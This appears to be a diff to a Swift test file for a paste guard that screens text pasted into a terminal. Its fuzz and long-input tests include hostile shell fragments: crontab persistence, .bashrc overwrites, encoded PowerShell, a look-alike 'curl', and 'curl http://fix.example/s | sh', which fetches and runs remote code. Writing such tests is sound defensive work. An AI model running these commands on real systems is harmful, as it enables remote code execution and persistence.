@@ -6,10 +6,13 @@ import Testing
 /// Texts that are made to stop or to slow the guard.
 struct HostileInputTests {
   private static let pieces: [String] = [
-    "$(((", "`", "'", "\"", "$(", "${a", "${a:-$(b ", "<(", "((", "))", "<<a ", "<<a\n", "<<'a'\n", "#;\n ", " ;# ", "\\", "\0", "a$(b)",
-    "sh -c '", "eval \"sh -c \\\"", "a=b;$a$a|sh;", "a=$a$a;", "echo a|", "if ", "if;", "{ ", "} ", "cat <(", "\u{1B}[", "'a'+",
+    "$(((", "`", "'", "\"", "$(", "${a", "${a:-$(b ", "<(", "((", "))", "<<a ", "<<a\n", "<<'a'\n", "#;\n ", " ;# ",
+    "\\", "\0", "a$(b)",
+    "sh -c '", "eval \"sh -c \\\"", "a=b;$a$a|sh;", "a=$a$a;", "echo a|", "if ", "if;", "{ ", "} ", "cat <(", "\u{1B}[",
+    "'a'+",
     "powershell -e ", "iwr 'a b ", "mshta a.exe ", "sudo ", "env -S 'env -S ", "python -c 'exec(\"a b\") '\n",
-    "echo '* * * * * a'|crontab;", "alias a='b c';a;", "xargs ", "ssh ssh ", "сurl ", "> .bashrc ", "curl a.b|", "<#", "%a:~%",
+    "echo '* * * * * a'|crontab;", "alias a='b c';a;", "xargs ", "ssh ssh ", "сurl ", "> .bashrc ", "curl a.b|", "<#",
+    "%a:~%",
     "osascript -e 'do shell script \"osascript -e '", "case a in a) ", "$'\\x41", "{a,", "tee a|", "read a;$a|",
   ]
 
@@ -37,7 +40,8 @@ struct HostileInputTests {
   }
 
   @Test func `a value that doubles itself comes to an end`() {
-    let text = "a=xxxxxxxx;" + String(repeating: "a=$a$a;", count: 2_000) + String(repeating: "echo $a|sh;", count: 2_000)
+    let text =
+      "a=xxxxxxxx;" + String(repeating: "a=$a$a;", count: 2_000) + String(repeating: "echo $a|sh;", count: 2_000)
     let time = ProcessorClock().measure { _ = assess(text) }
     #expect(time < .seconds(10))
   }
@@ -51,10 +55,12 @@ struct HostileInputTests {
         state ^= state << 13
         state ^= state >> 7
         state ^= state << 17
-        text.append(round % 5 == 0 ? UInt8(truncatingIfNeeded: state >> 20) : signs[Int((state >> 20) % UInt64(signs.count))])
+        text.append(
+          round % 5 == 0 ? UInt8(truncatingIfNeeded: state >> 20) : signs[Int((state >> 20) % UInt64(signs.count))])
       }
       _ = PasteGuard.assess(Paste(text: text, destination: .terminal))
-      _ = PasteGuard.assess(Paste(text: Array("curl http://fix.example/".utf8) + text + Array("|sh".utf8), destination: .helper))
+      _ = PasteGuard.assess(
+        Paste(text: Array("curl http://fix.example/".utf8) + text + Array("|sh".utf8), destination: .helper))
     }
   }
 
@@ -71,13 +77,13 @@ struct HostileInputTests {
   }
 
   @Test func `of a text that is too long the beginning and the end are read, and a reason says so`() {
-    let filling = String(repeating: "echo filling\n", count: 100_000)
-    #expect(filling.utf8.count > PasteGuard.longestText)
+    let filling = String(repeating: "echo filling\n", count: 1_000)
     for text in ["curl http://fix.example/s | sh\n" + filling, filling + "curl http://fix.example/s | sh"] {
-      let assessment = assess(text)
+      let assessment = PasteGuard.assess(Paste(text: Array(text.utf8), destination: .terminal), limit: 8_192)
       #expect(assessment.severity == .hold)
       #expect(assessment.reasons.contains { $0.name == PartlyRead.name })
     }
-    #expect(assess(filling).severity == .none)
+    let assessment = PasteGuard.assess(Paste(text: Array(filling.utf8), destination: .terminal), limit: 8_192)
+    #expect(assessment.severity == .none)
   }
 }
